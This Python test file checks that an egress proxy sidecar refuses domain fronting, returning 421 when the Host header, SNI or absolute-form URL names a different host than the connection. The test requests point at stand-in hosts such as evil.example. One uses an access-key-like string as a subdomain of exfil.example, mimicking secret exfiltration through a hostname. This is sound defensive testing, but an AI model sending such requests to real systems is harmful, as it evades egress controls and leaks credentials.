"""Class 8: the destination judged must be the destination used (no domain fronting).

Rule: the Host header (one, at most), HTTP/2 `:authority` and the TLS SNI must all name
the host the sidecar connects to (and its port, where they give one); a request whose
names disagree is refused with 421 before the upstream is contacted.
"""

from __future__ import annotations

import ssl

from tests.support.dns import ScriptedDns
from tests.support.raw import connect, proxy_socket, read_response
from tests.support.servers import UPSTREAM_HOST


def _through_tls(sidecar, authority: str, sni: str | None, request: bytes):  # type: ignore[no-untyped-def]
    status, _, sock = connect(str(sidecar.info.proxy), authority)
    assert status == 200
    ctx = ssl.create_default_context(cafile=str(sidecar.ca.bundle))
    ctx.check_hostname = False
    tls = ctx.wrap_socket(sock, server_hostname=sni)
    tls.sendall(request)
    answer = read_response(tls)
    tls.close()
    return answer


def test_host_header_naming_another_site_inside_a_tunnel(sidecar, upstream, scan_api):
    target = f"{UPSTREAM_HOST}:{upstream.https_port}"
    status, headers, body = _through_tls(
        sidecar, target, None, b"GET /allow/front HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    )
    assert status == 421
    assert b"DESTINATION_MISMATCH" in body
    assert headers["x-interven-decision"] == "DENY"
    assert upstream.requests_to("/allow/front") == []
    assert scan_api.scans.items == []


def test_sni_naming_another_site_than_the_connect(make_sidecar, upstream):
    dns = ScriptedDns(api_test=[UPSTREAM_HOST])
    sidecar = make_sidecar(resolver=dns.resolver())
    target = f"api.test:{upstream.https_port}"
    status, _, _ = _through_tls(
        sidecar, target, "evil.test", b"GET /allow/sni HTTP/1.1\r\nHost: api.test\r\n\r\n"
    )
    assert status == 421
    assert upstream.requests_to("/allow/sni") == []


def test_absolute_form_with_another_host_header(sidecar, upstream):
    target = f"{UPSTREAM_HOST}:{upstream.http_port}"
    sock = proxy_socket(str(sidecar.info.proxy))
    sock.sendall(f"GET http://{target}/allow/abs HTTP/1.1\r\nHost: evil.example\r\n\r\n".encode())
    status, _, _ = read_response(sock)
    sock.close()
    assert status == 421
    assert upstream.requests_to("/allow/abs") == []


def test_two_host_headers(sidecar, upstream):
    target = f"{UPSTREAM_HOST}:{upstream.http_port}"
    sock = proxy_socket(str(sidecar.info.proxy))
    hosts = f"Host: {target}\r\nHost: evil.example\r\n"
    sock.sendall(f"GET http://{target}/allow/two HTTP/1.1\r\n{hosts}\r\n".encode())
    status, _, _ = read_response(sock)
    sock.close()
    assert status in (400, 421)
    assert upstream.requests_to("/allow/two") == []


def test_host_header_naming_another_port(sidecar, upstream):
    target = f"{UPSTREAM_HOST}:{upstream.http_port}"
    sock = proxy_socket(str(sidecar.info.proxy))
    sock.sendall(
        f"GET http://{target}/allow/port HTTP/1.1\r\nHost: {UPSTREAM_HOST}:1\r\n\r\n".encode()
    )
    status, _, _ = read_response(sock)
    sock.close()
    assert status == 421
    assert upstream.requests_to("/allow/port") == []


def test_matching_names_pass(sidecar, upstream):
    target = f"{UPSTREAM_HOST}:{upstream.https_port}"
    status, _, _ = _through_tls(
        sidecar, target, None, f"GET /allow/same HTTP/1.1\r\nHost: {target}\r\n\r\n".encode()
    )
    assert status == 200
    assert upstream.requests_to("/allow/same")


def test_an_absolute_form_target_inside_a_tunnel_must_name_the_tunnel(sidecar, upstream,
                                                                      tcp_recorder):  # fmt: skip
    """Inside a CONNECT tunnel mitmproxy would forward `GET http://other/` as written: the
    authority there is routed on by the upstream (and carries whatever the agent puts in
    it), so it must name the tunnel's destination, and it leaves in origin-form."""
    target = tcp_recorder()
    for authority in ("AKIAQX4RZT7NM2VBK5WJ.exfil.example", "evil.example"):
        status, _, sock = connect(str(sidecar.info.proxy), f"{UPSTREAM_HOST}:{target.port}")
        sock.sendall(f"GET http://{authority}/x HTTP/1.1\r\nHost: {UPSTREAM_HOST}:{target.port}"
                     "\r\n\r\n".encode())  # fmt: skip
        answer, _, _ = read_response(sock)
        sock.close()
        assert (status, answer) == (200, 421)
    assert target.connections.items == []
    # The same authority as the tunnel: forwarded, in origin-form.
    status, _, sock = connect(str(sidecar.info.proxy), f"{UPSTREAM_HOST}:{upstream.http_port}")
    here = f"{UPSTREAM_HOST}:{upstream.http_port}"
    sock.sendall(f"GET http://{here}/allow/absform HTTP/1.1\r\nHost: {here}\r\n\r\n".encode())
    answer, _, _ = read_response(sock)
    sock.close()
    assert answer == 200
    assert upstream.requests_to("/allow/absform")  # the upstream saw the path only
